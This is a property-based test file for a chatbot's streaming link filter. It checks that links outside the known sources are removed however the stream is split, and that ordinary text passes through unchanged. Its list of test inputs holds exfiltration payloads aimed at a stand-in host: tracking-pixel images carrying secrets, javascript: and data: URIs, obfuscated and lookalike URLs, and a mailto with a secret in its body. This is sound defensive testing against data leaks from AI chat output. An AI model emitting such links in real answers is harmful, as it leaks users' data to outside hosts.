import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { LinkFilter } from "../../functions/chatbots/answer/links.ts";

const SOURCE = 'Order at https://shop.example/cable?size=9 or [our shop](https://shop.example/). <b class="x">New</b>';

function heard(pieces: readonly string[], known: readonly string[] = [SOURCE]) {
  const filter = new LinkFilter(known);
  return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
}

const EVIL = [
  "![pixel](https://evil.example/p.png?data=secret)",
  "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
  "[here](https://evil.example/)",
  "[here](<https://evil.example/> 'title')",
  "[a [b](https://evil.example/x)](https://evil.example/y)",
  "[here](//evil.example/x)",
  "[here](ht&#116;ps://evil.example/)",
  "[here](javascript:alert('evil.example'))",
  "<https://evil.example/x>",
  "https://evil.example/x",
  "HTTPS://EVIL.EXAMPLE/x",
  "https:\\\\evil.example\\x",
  "www.evil.example/x",
  "evil.example/x?secret",
  "mailto:a@evil.example?body=secret",
  "data:text/html,evil.example",
  '<img src="https://evil.example/p.png">',
  "<img/src=//evil.example/p.png>",
  "<a href=https://evil.example/>go</a>",
  '<img src="https://evil.example/p.png',
  "https://shop.example/cable?size=9&secret=evil.example",
  "https://shop.example.evil.example/",
  "ดูที่https://evil.example/x",
  "こちらhttps://evil.example/x。",
];

describe("what leads elsewhere", () => {
  test.each(EVIL)("goes, however it is written and the stream is cut: %s", (text) => {
    fc.assert(
      fc.property(fc.array(fc.nat(text.length + 20), { maxLength: 12 }), (cuts) => {
        const whole = `Before ${text} after.`;
        const at = [0, ...cuts.map((cut) => Math.min(cut, whole.length)).sort((a, b) => a - b), whole.length];
        const pieces = at.slice(1).map((end, index) => whole.slice(at[index], end));
        const shown = heard(pieces);
        expect(shown.toLowerCase()).not.toMatch(/evil|javascript:|data:/);
        expect(shown).toContain("Before");
      }),
      { numRuns: 60 },
    );
  });
});

describe("what stands in a source", () => {
  test.each([
    "See https://shop.example/cable?size=9.",
    'See [the shop](https://shop.example/) and <b class="x">New</b>.',
    "It is red [1] and, as [2] says, round [Note] <b>indeed</b>: 3 < 4 and/or 5 > 2.",
    "Version 1.2.3/4 of Node.js: a.b, http and https. Time: 12:30, ratio 3:1, C:/path is none of them?",
    "価格は[1]500円です。 ราคา 500 บาท [2] ต่อชิ้น",
  ])("and what is no address passes as it is: %s", (text) => {
    expect(heard([...text])).toBe(text);
  });
});
